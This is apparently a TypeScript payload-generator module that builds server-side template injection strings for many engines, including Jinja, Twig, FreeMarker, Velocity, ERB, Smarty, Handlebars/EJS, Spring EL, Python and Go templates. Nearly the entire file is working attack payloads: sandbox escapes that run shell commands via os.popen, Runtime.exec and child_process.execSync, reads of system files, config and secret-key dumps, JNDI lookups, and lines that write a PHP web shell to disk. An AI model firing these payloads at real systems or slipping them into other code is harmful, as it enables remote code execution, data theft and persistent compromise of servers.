// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/** Server-side template injection: the probes of each engine's delimiters and its ways out of the sandbox. */

import { grammar, lines } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { SHELL } from "./shell.ts";

const RULES = grammar({
  ...SHELL,
  start: [
    ["«pre»«probe»«post»", 10],
    ["«pre»«jinja»", 10],
    ["«twig»", 3],
    ["«freemarker»", 4],
    ["«velocity»", 2],
    ["«erb»", 3],
    ["«smarty»", 2],
    ["«js»", 4],
    ["«java»", 4],
    ["«python»", 2],
    ["«other»", 3],
    ["«polyglot»", 2],
  ],
  pre: ["«»", "«»", "«»", "«»", "«rnd»", "«int»", "'", '"', "}}", "}", "%}", '">'],
  post: ["«»", "«»", "«»", "«rnd»", "'", '"'],
  sum: [
    "«n=int»*«$n»",
    "«int»*«int»",
    "7*7",
    "7*'7'",
    "«small»*«small»",
    "«int»+«int»",
    "«int»-«int»",
    "'«rnd»'",
    "«big»*«big»",
    '"«rnd»".join("«rnd2»")',
    "1/0",
    "«int»|string",
    "«int4»*«int4»",
    "'«rnd»'+'«rnd»'",
  ],
  probe: [
    "{{«sum»}}",
    "{{ «sum» }}",
    "${«sum»}",
    "#{«sum»}",
    "<%= «sum» %>",
    "<%=«sum»%>",
    "{«sum»}",
    "*{«sum»}",
    "@(«sum»)",
    "${{«sum»}}",
    "#{ «sum» }",
    "{%«sum»%}",
    "{{='«sum»'}}",
    "~{«sum»}",
    "{@«sum»}",
    "[[«sum»]]",
    "[[${«sum»}]]",
    "[=«sum»]",
    "{{{«sum»}}}",
    "@{«sum»}",
    "#«sum»#",
    "{#«sum»#}",
    "{% print(«sum») %}",
    "<%«sum»%>",
    "${«sum»}}",
    "%{«sum»}",
    "{{=«sum»}}",
    "<#assign «letter»=«sum»>${«letter»}",
    "#set($«v=letter»=«sum»)${«$v»}",
    "$«int»",
    "{{'«sum»'}}",
    '{{html "«rnd»"}}',
    '{{printf "%s" "«rnd»"}}',
  ],
  jinja: lines`
    {{config}}
    {{config.items()}}
    {{config.__class__.__init__.__globals__['os'].popen('«look»').read()}}
    {{self}}
    {{self.__init__.__globals__.__builtins__}}
    {{self._TemplateReference__context.«cycler|joiner|namespace».__init__.__globals__.os.popen('«look»').read()}}
    {{request}}
    {{request.application.__globals__.__builtins__.__import__('os').popen('«look»').read()}}
    {{request.«environ|args|headers|cookies|application»}}
    {{request|attr('«application|__class__»')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('«rnd»')}}
    {{«jbase».__class__}}
    {{«jbase».__class__.__«mro|bases|base»__«[1]|[0]|[-1]|[2]|».__subclasses__()}}
    {{«jbase».__class__.__«mro|base»__.__subclasses__()[«int»]('«unixfile»').read()}}
    {{«jbase».__class__.__mro__[2].__subclasses__()[«int»].__init__.__globals__['sys'].modules['os'].popen('«look»').read()}}
    {{«jbase»['__class__']['__base__']['__subclasses__']()}}
    {{«jbase»["__cla"+"ss__"]}}
    {{«jbase»|attr('__class__')}}
    {{«jbase»|attr(['_'*2,'class','_'*2]|join)}}
    {{«lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|g|range|dict».__«init__.__globals__|globals__|class__»«['os']|.os|.current_app.config|».popen('«look»').read()}}
    {{«lipsum|url_for».__globals__.os.popen('«look»').read()}}
    {{get_flashed_messages.__globals__['current_app'].config}}
    {{«g|dict|session|request|config|url_for|namespace|settings.SECRET_KEY|messages|block|forloop|debug|csrf_token|user.password»}}
    {% for «letter» in ().__class__.__base__.__subclasses__() %}{% if "«warning|Popen»" in «letter».__name__ %}{{«letter»()._module.__builtins__['__import__']('os').popen("«look»").read()}}{% endif %}{% endfor %}
    {% if «sum» %}«rnd»{% endif %}
    {% import os %}{{ os.popen("«look»").read() }}
    {% include «q»«unixfile»«q» %}
    {% extends «q»«rnd»«q» %}
    {% debug %}
    {% load «log|static|i18n» %}{% get_admin_log 10 as log %}
    {%raw%}{{«sum»}}{%endraw%}
    {% set «v=letter»=«jbase».__class__ %}{{«$v»}}
    {{«sum»}}«rnd»{{«sum»}}
    {{«rnd».__class__.__init__.__globals__}}
    {{dump(app)}}
    {{app.request.«server.all|query.all|cookies|headers»|join(',')}}`,
  jbase: [
    "''",
    '""',
    "()",
    "[]",
    "{}",
    "request",
    "config",
    "self",
    "7",
    "g",
    "''|string",
    "1",
    "x",
    "cycler",
    "lipsum",
  ],
  twig: lines`
    {{_self}}
    {{_self.env.«registerUndefinedFilterCallback("«phpexec»")|setCache("«url»")|getRuntimeLoader()|enableDebug()»}}{{_self.env.getFilter("«look»")}}
    {{['«look»']|«filter|map|sort|reduce»('«phpexec»')}}
    {{['«look»',«int»]|«sort|map»('«phpexec»')|join}}
    {{[«int»]|«filter|map»('«phpexec»')}}
    {{'«unixfile»'|file_excerpt(1,«int»)}}
    {{{'<?php «phpexec»()':'/var/www/html/«rnd».php'}|map('file_put_contents')}}
    {{«app|_context|constant("«rnd»")|dump()|include("«unixfile»")|source('«rnd»')|attribute(«rnd»,'«rnd»')»}}
    {% set «v=rnd2»=_self.env %}{{«$v».getFilter('«look»')}}
    {{block('«rnd»')|«filter|map»('«phpexec»')}}
    {%block U%}«look»000«phpexec»{%endblock%}{%set x=block(_charset|first)|split(000)%}{{[x|first]|map(x|last)|join}}`,
  phpexec: ["system", "exec", "passthru", "shell_exec", "phpinfo", "assert"],
  freemarker: lines`
    <#assign «v=letter»«x|»="freemarker.template.utility.«Execute|ObjectConstructor|JythonRuntime»"?new()>\${«$v»("«look»")}
    \${"freemarker.template.utility.Execute"?new()("«look»")}
    [#assign «v=letter»='freemarker.template.utility.Execute'?new()]\${«$v»('«look»')}
    \${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('«unixfile»').toURL().openStream().readAllBytes()?join(" ")}
    <#assign classloader=«rnd».class.protectionDomain.classLoader>
    <#include "«unixfile»">
    <#list .data_model?keys as «letter»>\${«letter»}</#list>
    \${.«data_model|version|globals|locale|template_name»}
    \${«rnd»?«api|eval|interpret|has_api|html|upper_case»}
    <#if «sum»>«rnd»</#if>
    <@«rnd»?interpret />`,
  velocity: lines`
    #set($«v=letter»="")#set($rt=$«$v».class.forName("java.lang.Runtime"))#set($chr=$«$v».class.forName("java.lang.Character"))
    #set($«v=rnd2»="«rnd»")$«$v».getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("«look»")
    $class.inspect("java.lang.Runtime").type.getRuntime().exec("«look»").waitFor()
    #set($str=$class.inspect("java.lang.String").type)
    $velocityCount
    #include("«unixfile»")
    #parse("«unixfile»")
    #foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end
    $request.getSession().getServletContext()
    #evaluate("«rnd»")
    {{#«rnd»}}`,
  erb: lines`
    <%= system('«look»') %>
    <%= «bt»«look»«bt» %>
    <%= File.open('«unixfile»').read %>
    <%= IO.popen('«look»').readlines() %>
    <%= Dir.entries('/') %>
    <%= self.«class|methods|instance_variables» %>
    <%= ENV %>
    <%= «sum» %>
    <% require 'open3' %><% @a,@b,@c,@d=Open3.popen3('«look»') %>
    <%= %x(«look») %>
    #{%x(«look»)}
    #{«bt»«look»«bt»}
    = «bt»«look»«bt»
    <%= include File.read("«unixfile»") %>
    #{ «sum» }
    <% import os;x=os.popen('«look»').read() %>\${x}
    \${self.module.cache.util.os.«system|popen»("«look»")}
    \${self.«context|module|template».«cache|_mmarker».util.os.popen("«look»").read()}
    <%! import os %>
    <%= request.env %>`,
  smarty: lines`
    {php}«phpexec»('«look»');{/php}
    {php}echo «bt»«look»«bt»;{/php}
    {«phpexec»('«look»')}
    {if «phpexec»('«look»')}{/if}
    {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php «phpexec»($_GET['«rnd»']); ?>",self::clearConfig())}
    {self::getStreamVariable("file://«unixfile»")}
    {$smarty.«version|template|current_dir|server.SERVER_NAME|template_object|const.«Rnd»»}
    {fetch file="«unixfile»"}
    {literal}<script>alert(«int»)</script>{/literal}
    {«fetch|include|include_php|math|eval|html_image» «file|equation|var|assign»="«rnd»"}
    {function name='rce(){};«phpexec»("«look»");function '}{/function}
    {«int»*«int»}{$smarty.version}
    {@«rnd»}{«phpexec»('«look»')}`,
  js: lines`
    {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}
    {{#each «rnd»}}{{this.constructor.constructor("return process")()}}{{/each}}
    {{range.constructor("return global.process.mainModule.require('child_process').execSync('«look»')")()}}
    {{«cycler|joiner|range».constructor("return «process|global|this»")()}}
    {{constructor.constructor('return process')().mainModule.require('child_process').execSync('«look»')}}
    {{this.«constructor|__proto__|__lookupGetter__»}}
    #{root.process.mainModule.require('child_process').spawnSync('«tool»',['«rnd»']).stdout}
    #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('«look»')}()}
    - var x = root.process
    #{global.process.mainModule.require}
    <%= global.process.mainModule.require('child_process').execSync('«look»') %>
    <%= process.env %>
    \${require('child_process').execSync('«look»')}
    {{= process.mainModule.require('child_process').execSync('«look»') }}
    {{=it.constructor.constructor('return process')()}}
    settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('«look»');s
    settings[view options][«client|escapeFunction|escape|debug»]=«true|1;return global.process.mainModule.constructor._load('child_process').execSync('«look»');»
    \${«rnd».constructor.constructor(«q»return process«q»)()}
    [[\${«sum»}]]
    {{_.template('<%«rnd»%>')()}}`,
  java: lines`
    __\${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("«look»").getInputStream()).next()}__::.x
    __\${T(java.lang.Runtime).getRuntime().exec("«look»")}__::«.x|»
    \${T(java.lang.System).getenv()}
    \${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(«int»)))}
    [[\${T(java.lang.Runtime).getRuntime().exec('«look»')}]]
    \${#rt=@java.lang.Runtime@getRuntime(),#rt.exec("«look»")}
    *{«sum»}
    |\${«sum»}|
    \${class.getClassLoader()}
    \${class.getResource("«rnd»").getPath()}
    \${class.getResource("../../../../../«rnd»").getContent()}
    \${''.getClass().forName('java.lang.Runtime').getRuntime().exec('«look»')}
    {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«look»') }}
    {{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(«q»«rnd»«q»)}}
    {% set cmd = '«look»' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}
    {{«beans|request|ex»«|.class.protectionDomain|.getClass()»}}
    #{session.setAttribute("rtc","".getClass().forName("java.lang.Runtime").getDeclaredConstructors()[0])}
    #{facesContext.getExternalContext().getResponse().setHeader("«rnd»","«rnd»")}
    \${«int»*«int»}«rnd»
    \${jndi:«ldap|dns»://«host»/«letter»}
    %24%7B«sum»%7D
    $\\A{«sum»}
    $%7B«sum»%7D
    /\${(«sum»)}/
    \${script:«javascript|js|groovy»:«rnd»}
    \${script:javascript:java.lang.Runtime.getRuntime().exec('«look»')}
    \${url:UTF-8:«url»}
    \${dns:address|«host»}
    \${«sys|env|file:UTF-8|const|base64Decoder»:«rnd»}`,
  python: lines`
    {{handler.«settings|application»}}
    {% import «os|subprocess» %}{{«os|subprocess».«system|popen»("«look»")}}
    {% module «rnd» %}
    {{escape(handler.settings["cookie_secret"])}}
    \${open('«unixfile»').read()}
    %«letter»=__import__('os').popen('«look»').read()
    {«rnd».__init__.__globals__}
    {0.__class__}
    {0.«__init__|__class__».__globals__[«rnd»]}
    {user.__init__.__globals__[app].config}
    %(«rnd»)s%(password)s
    <py:if test="«sum»">«rnd»</py:if>
    {{__import__('os').popen('«look»').read()}}
    \${''.join(x for x in __import__('os').popen('«look»'))}`,
  other: lines`
    {{.System "«look»"}}
    {{.«Password|Secret|Token|Env|«Rnd»» }}
    {{printf "%«v|s|d|#v»" .}}
    {{call .«Rnd» "«look»"}}
    {{define "«rnd»"}}«rnd»{{end}}{{template "«rnd»"}}
    {{block «rnd»}}{{end}}
    @(«sum»)
    @{«sum»}
    @System.Diagnostics.Process.Start("«cmd.exe|calc.exe»","/c «winlook»")
    @{// C# code }
    @(System.IO.File.ReadAllText("«unixfile»"))
    @Html.Raw("<script>alert(«int»)</script>")
    {% liquid assign «rnd» %}
    {{ «rnd» | «inspect|escape|url_encode|split: ""|date: "%s"» }}
    \${«var|env|sys»:«rnd»}
    {pboot:if(«phpexec»('«look»'))}{/pboot:if}
    {dede:«rnd» runphp='yes'}«phpexec»('«look»');{/dede:«rnd»}
    {\${«phpexec»('«look»')}}
    \${\${«sum»}}
    ;{{«sum»}};
    {{= $eval('«sum»') }}
    {{«ng|$»«rnd»}}
    {{\`\${«sum»}\`}}
    {^{for «rnd»}}{{:«rnd»}}{{/for}}
    {{:"«rnd»".toString.constructor.call({},"return global.process")()}}`,
  polyglot: [
    "${{<%[%'\"}}%\\.",
    "${{<%[%'\"}}%\\«rnd»",
    "{{«sum»}}${«sum»}<%= «sum» %>#{«sum»}",
    "{{«sum»}}[[«sum»]]",
    "#{«sum»}${«sum»}{{«sum»}}",
    "a{{«sum»}}b${«sum»}c<%=«sum»%>",
    "{{«sum»}}'\"${«sum»}#{«sum»}*{«sum»}",
    "<%'${{/#{@}}%>{{«sum»",
    "«rnd»{{«sum»}}«rnd»${«sum»}«rnd»",
    '{{"«rnd»"}}}<%%>%{«sum»}',
    "@(«sum»)#{«sum»}<#assign «letter»=«int»>",
    'p ">[[${{«sum»}}]]',
  ],
});

/** A template injection for one of the common engines, or a probe for all of them. */
export function ssti(rng: Random): string {
  return RULES(rng);
}
